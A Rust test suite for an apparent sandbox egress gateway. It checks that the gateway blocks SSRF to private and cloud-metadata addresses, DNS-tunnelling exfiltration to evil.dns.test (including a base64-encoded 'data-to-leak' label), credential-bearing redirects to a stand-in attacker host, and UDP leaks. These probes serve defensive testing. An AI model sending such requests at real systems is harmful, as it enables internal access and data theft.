//! Groups C and D: names are resolved and addresses dialled only after the verdict, and only as
//! they were checked.

use crate::identity::refused_inside;
use crate::rig::origin::Step;
use crate::rig::way::Way;
use crate::rig::{EVIL, GOOD, OTHER, Rig};
use crate::rows;
use crate::verdicts::{allowed, refused};

rows![
    a_name_of_a_special_address_is_not_dialled,
    a_name_that_changes_its_address_is_dialled_as_it_was_checked,
    a_denied_host_causes_no_packet,
    an_origin_without_a_good_certificate_gets_no_secret,
    nothing_is_lent_in_clear_text,
    clear_text_is_for_origins_that_the_operator_names,
    redirections_are_relayed_and_never_followed,
    what_steers_clients_elsewhere_is_removed,
    questions_for_names_stay_inside,
    malformed_questions_are_answered_or_dropped,
    no_datagram_leaves,
    the_sandbox_holds_phantoms_alone,
];

/// C01, C04, B06, B07: by DNS answers.
fn a_name_of_a_special_address_is_not_dialled(rig: &Rig) {
    for (name, addresses, reason) in [
        ("private.dns.test", &["10.1.2.3"][..], "ssrf_resolved_ip"),
        ("private.dns.test", &["127.0.0.1"], "ssrf_resolved_ip"),
        (
            "private.dns.test",
            &["172.16.0.1", "192.168.1.1", "169.254.1.1"],
            "ssrf_resolved_ip",
        ),
        ("private.dns.test", &["::1"], "ssrf_resolved_ip"),
        (
            "private.dns.test",
            &["fc00::1", "fe80::1"],
            "ssrf_resolved_ip",
        ),
        ("private.dns.test", &["0.0.0.0"], "ssrf_resolved_ip"),
        (
            "private.dns.test",
            &["100.64.0.1", "198.18.0.1"],
            "ssrf_resolved_ip",
        ),
        (
            "private.dns.test",
            &["224.0.0.1", "ff02::1"],
            "ssrf_resolved_ip",
        ),
        ("metadata.dns.test", &["169.254.169.254"], "metadata"),
        ("metadata.dns.test", &["fd00:ec2::254"], "metadata"),
        ("mapped.dns.test", &["::ffff:127.0.0.1"], "ssrf_resolved_ip"),
        ("mapped.dns.test", &["::ffff:169.254.169.254"], "metadata"),
        (
            "translated.dns.test",
            &["64:ff9b::7f00:1"],
            "ssrf_resolved_ip",
        ),
        (
            "translated.dns.test",
            &["2002:7f00:1::"],
            "ssrf_resolved_ip",
        ),
        ("metadata.google.internal", &["169.254.169.254"], "metadata"),
    ] {
        for way in Way::SECURE {
            rig.names.set(name, addresses);
            let answer = rig.ask(way, name, "GET {T}/x HTTP/1.1\r\nHost: {H}\r\n\r\n");
            let record = rig.record(way);
            assert_eq!(
                (answer.status, answer.reason().as_str()),
                (403, reason),
                "{way:?} {name} {addresses:?} {record}"
            );
        }
    }
    for way in Way::SECURE {
        let answer = rig.ask(
            way,
            "nothing.dns.test",
            "GET {T}/x HTTP/1.1\r\nHost: {H}\r\n\r\n",
        );
        assert_eq!(
            (answer.status, answer.reason().as_str()),
            (502, "unresolved"),
            "{way:?}"
        );
        rig.record(way);
    }
    let asked = rig.names.take_asked();
    assert!(
        asked
            .iter()
            .all(|name| name.ends_with(".dns.test") || name == "metadata.google.internal"),
        "{asked:?}"
    );
}

/// C02, C03: the exception is for one address; X is at the other.
fn a_name_that_changes_its_address_is_dialled_as_it_was_checked(rig: &Rig) {
    let x = rig.origins.x.ip().to_string();
    let port = rig.origins.tls.port();
    for way in [Way::Connect, Way::Socks, Way::Transparent] {
        rig.names
            .turns("flip.dns.test", &[&["127.0.0.1"], &[&x], &[&x]]);
        rig.names
            .set("mixed.dns.test", &[&x, "127.0.0.1", "10.0.0.1"]);
        for name in ["flip.dns.test", "mixed.dns.test"] {
            let wire = rig.tunnel(way, name, port).unwrap();
            let mut wire = wire.secure(Some(name), &["http/1.1"]).unwrap();
            let request = format!("GET /x HTTP/1.1\r\nHost: {name}:{port}\r\n\r\n");
            let answer = wire.ask(request.as_bytes());
            let record = rig.record(way);
            assert_eq!(answer.status, 200, "{way:?} {name} {answer:?} {record}");
            assert_eq!(
                record["dialled"],
                format!("127.0.0.1:{port}"),
                "{way:?} {name}"
            );
        }
        rig.names.turns("flip.dns.test", &[&[&x]]);
    }
    rig.names.take_asked();
}

/// C08, D01: host policy precedes resolution. [`Rig::settle`] finds every query and every touch of
/// X.
fn a_denied_host_causes_no_packet(rig: &Rig) {
    rig.names.take_asked();
    for host in [EVIL, "data-to-leak.evil.dns.test", "x.other.rig.test"] {
        let template = format!("GET http://{host}/x HTTP/1.1\r\nHost: {host}\r\n\r\n");
        refused(
            rig,
            Way::Forward,
            OTHER,
            &template,
            403,
            "policy_default_deny",
        );
        refused_inside(rig, &format!("unseen.{host}"));
        for way in Way::SECURE {
            let answer = rig.ask(
                way,
                OTHER,
                &format!("GET /x HTTP/1.1\r\nHost: {host}\r\n\r\n"),
            );
            assert_eq!(answer.status, 421);
            rig.record(way);
        }
    }
    // A denied path at an allowed host.
    for way in Way::SECURE {
        let answer = rig.ask(
            way,
            "private.dns.test",
            "GET {T}/secret HTTP/1.1\r\nHost: {H}\r\n\r\n",
        );
        assert_eq!(answer.status, 403);
        rig.record(way);
    }
    assert!(rig.names.take_asked().is_empty());
}

/// C12, C14, I06.
fn an_origin_without_a_good_certificate_gets_no_secret(rig: &Rig) {
    for (name, why) in [
        ("expired", "has expired"),
        ("selfsigned", "is from a CA that is not trusted"),
        (
            "ofaca",
            "is a CA's; a server's must be issued with `CA:FALSE`",
        ),
        ("wrongname", "is for another name"),
        ("wrongusage", "is not for servers"),
    ] {
        let host = format!("{name}.rig.test");
        for way in Way::SECURE {
            let answer = rig.ask(
                way,
                &host,
                "GET {T}/x?secret-looking=1 HTTP/1.1\r\nHost: {H}\r\n\r\n",
            );
            let record = rig.record(way);
            assert_eq!(
                (answer.status, answer.reason().as_str()),
                (502, "origin_tls"),
                "{way:?} {host}"
            );
            let told = format!("the origin's certificate {why}");
            assert!(answer.text().contains(&told), "{host} {answer:?}");
            // A person must trust it before.
            let again = (
                answer.text().contains("\"retry\":false"),
                answer.text().contains("Do not retry before."),
            );
            assert_eq!(again, (true, true), "{host} {answer:?}");
            assert_eq!(record["cause"], format!("{told}."));
            // The refusal names the host in canonical form, and nothing else of the request.
            assert!(!answer.text().contains("secret-looking"), "{answer:?}");
        }
    }
    assert!(rig.seen().is_empty());
    for way in Way::SECURE {
        allowed(
            rig,
            way,
            "tls12.rig.test",
            "GET {T}/x HTTP/1.1\r\nHost: {H}\r\n\r\n",
        );
    }
}

/// C13.
fn nothing_is_lent_in_clear_text(rig: &Rig) {
    for way in Way::CLEAR {
        let template =
            "GET {T}/x HTTP/1.1\r\nHost: {H}\r\nAuthorization: Bearer {PH:bearer}\r\n\r\n";
        let answer = rig.ask(way, GOOD, template);
        let record = rig.record(way);
        assert_eq!(answer.status, 403, "{way:?} {answer:?} {record}");
        let reason = record["reason"].as_str().unwrap();
        assert!(
            ["cleartext_injection", "phantom_out_of_scope"].contains(&reason),
            "{way:?} {reason}"
        );
        assert!(rig.seen().is_empty());
        allowed(rig, way, GOOD, "GET {T}/x HTTP/1.1\r\nHost: {H}\r\n\r\n");
        rig.seen();
    }
}

/// C13: policy allows the request, and that is not enough.
fn clear_text_is_for_origins_that_the_operator_names(rig: &Rig) {
    for way in Way::CLEAR {
        let answer = rig.ask(
            way,
            "dark.rig.test",
            "GET {T}/x HTTP/1.1\r\nHost: {H}\r\n\r\n",
        );
        let record = rig.record(way);
        assert_eq!(
            (answer.status, answer.reason().as_str()),
            (403, "clear_text"),
            "{way:?} {record}"
        );
    }
    assert!(rig.seen().is_empty());
    for way in Way::SECURE {
        let template = "GET {T}/x HTTP/1.1\r\nHost: {H}\r\n\r\n";
        allowed(rig, way, "dark.rig.test", template);
    }
    rig.seen();
}

/// F15.
fn redirections_are_relayed_and_never_followed(rig: &Rig) {
    for (path, location) in [
        ("/r1", "https://evil.rig.test/x"),
        ("/r2", "//evil.rig.test/x"),
        ("/r3", "https://good.rig.test@evil.rig.test/x"),
        ("/r4", "http://good.rig.test/x"),
    ] {
        rig.origins.on(path, move |_| {
            let head = format!(
                "HTTP/1.1 307 Temporary Redirect\r\nLocation: {location}\r\nContent-Length: 0\r\n\r\n"
            );
            vec![Step::Bytes(head.into_bytes())]
        });
        for way in Way::SECURE {
            let template = format!(
                "POST {{T}}{path} HTTP/1.1\r\nHost: {{H}}\r\nAuthorization: Bearer {{PH:bearer}}\r\nContent-Length: 2\r\n\r\nhi"
            );
            let answer = rig.ask(way, GOOD, &template);
            assert_eq!(
                (answer.status, answer.field("location")),
                (307, Some(location)),
                "{way:?}"
            );
            rig.record(way);
            assert_eq!(rig.seen().len(), 1, "{way:?}");
        }
    }
}

/// C15, L10.
fn what_steers_clients_elsewhere_is_removed(rig: &Rig) {
    rig.origins.on("/steer", |_| {
        crate::rig::origin::ok(
            "Alt-Svc: h3=\":443\"\r\nProxy-Authenticate: Basic\r\nProxy-Status: other\r\nX-Kept: 1\r\n",
            b"x",
        )
    });
    for way in Way::SECURE {
        let answer = allowed(
            rig,
            way,
            OTHER,
            "GET {T}/steer HTTP/1.1\r\nHost: {H}\r\n\r\n",
        );
        let head = answer.head.to_lowercase();
        assert!(
            !head.contains("alt-svc") && !head.contains("proxy-") && head.contains("x-kept"),
            "{way:?} {head}"
        );
    }
}

fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut bytes = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        bytes.push(label.len() as u8);
        bytes.extend_from_slice(label.as_bytes());
    }
    bytes.extend([0, (kind >> 8) as u8, kind as u8, 0, 1]);
    bytes
}

/// D01, D02, D06.
fn questions_for_names_stay_inside(rig: &Rig) {
    // A, TXT, NULL, CNAME, MX, SRV, ANY, SVCB, HTTPS, AAAA.
    for kind in [1, 16, 10, 5, 15, 33, 255, 64, 65, 28] {
        for name in [
            "ZGF0YS10by1sZWFr.evil.dns.test",
            "x.flip.dns.test",
            "a.b.c.good.rig.test",
        ] {
            let answer = rig
                .relay
                .datagram("127.0.0.1:53", &question(name, kind))
                .unwrap();
            // An address of ours, where the gateway refuses; otherwise no data.
            let code = answer[3] & 15;
            let expected = if kind == 255 { 4 } else { 0 };
            assert_eq!(code, expected, "{name} {kind}");
            let records = u16::from_be_bytes([answer[6], answer[7]]);
            assert_eq!(records, u16::from(kind == 1 || kind == 28), "{name} {kind}");
            assert!(kind != 1 || answer.ends_with(&[0, 4, 198, 18, 0, answer[answer.len() - 1]]));
        }
        let answer = rig
            .relay
            .datagram("127.0.0.1:53", &question(GOOD, kind))
            .unwrap();
        let records = u16::from_be_bytes([answer[6], answer[7]]);
        assert_eq!(
            records,
            u16::from(kind == 1 || kind == 28),
            "type {kind} of an allowed name"
        );
    }
    assert!(
        rig.names.take_asked().is_empty(),
        "no question of the sandbox leaves it"
    );
    rig.abandon_records(Way::Transparent);
}

/// D04.
fn malformed_questions_are_answered_or_dropped(rig: &Rig) {
    let good = question(GOOD, 1);
    let with = |at: usize, bytes: &[u8]| {
        let mut changed = good.clone();
        changed[at..at + bytes.len()].copy_from_slice(bytes);
        changed
    };
    let mut looped = good[..12].to_vec();
    looped.extend([0xc0, 12, 0, 1, 0, 1]);
    for bytes in [
        vec![],
        good[..11].to_vec(),
        good[..20].to_vec(),
        looped,
        with(4, &[0, 0]),
        with(4, &[0, 2]),
        with(4, &[0xff, 0xff]),
        with(2, &[0x81]),
        with(2, &[0x29]),
        with(2, &[0x21]),
        with(good.len() - 2, &[0, 3]),
        question(GOOD, 252),
        vec![0xff; 4000],
    ] {
        if let Ok(answer) = rig.relay.datagram("127.0.0.1:53", &bytes) {
            let records = answer
                .get(6..8)
                .map_or(0, |count| u16::from_be_bytes([count[0], count[1]]));
            assert_eq!(records, 0, "{bytes:?}");
        }
    }
    let answer = rig.relay.datagram("127.0.0.1:53", &good).unwrap();
    assert_eq!(answer[7], 1, "the responder goes on");
    rig.abandon_records(Way::Transparent);
}

/// D03, D07: DNS elsewhere is answered by the gateway or not at all; anything else not at all.
fn no_datagram_leaves(rig: &Rig) {
    let server = rig.names.address;
    for to in ["8.8.8.8:53", &server.to_string(), "1.1.1.1:53"] {
        if let Ok(answer) = rig.relay.datagram(to, &question("leak.evil.dns.test", 1)) {
            // The gateway answers, whatever server was asked, with an address of its own.
            let is_synthetic = answer[answer.len() - 4..answer.len() - 1] == [198, 18, 0];
            assert!(answer[3] & 15 == 0 && is_synthetic, "{to}");
        }
    }
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    socket.set_nonblocking(true).unwrap();
    let port = socket.local_addr().unwrap().port();
    let probe = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    probe.connect("192.0.2.1:9").unwrap();
    let ours = probe.local_addr().unwrap().ip();
    for to in [
        format!("{ours}:{port}"),
        format!("127.0.0.1:{port}"),
        "203.0.113.1:443".to_owned(),
        "[2001:db8::1]:443".to_owned(),
        "224.0.0.251:5353".to_owned(),
        "198.18.0.1:443".to_owned(),
    ] {
        assert!(
            rig.relay.datagram(&to, b"quic or whatever").is_err(),
            "{to}"
        );
    }
    assert!(
        socket.recv(&mut [0; 64]).is_err(),
        "a datagram reached the host"
    );
    assert!(rig.names.take_asked().is_empty());
    rig.abandon_records(Way::Transparent);
}

/// D15, K04: what the workload's environment contains; the escape suite of tests/netns and `gateway
/// doctor` cover more.
fn the_sandbox_holds_phantoms_alone(rig: &Rig) {
    for (name, phantom) in &rig.sandboxed.phantoms {
        assert_eq!(phantom.len(), rig.secret(name).len());
        assert_ne!(phantom, rig.secret(name));
        assert_ne!(
            *phantom, rig.served.phantoms[name],
            "sessions have phantoms of their own"
        );
    }
    assert!(!rig.relay.environment.contains_key("RIG_BEARER"));
    let leaks = crate::rig::canary::seen(&rig.canaries, &rig.relay.environment_bytes);
    assert!(leaks.is_empty(), "{leaks:?}");
}
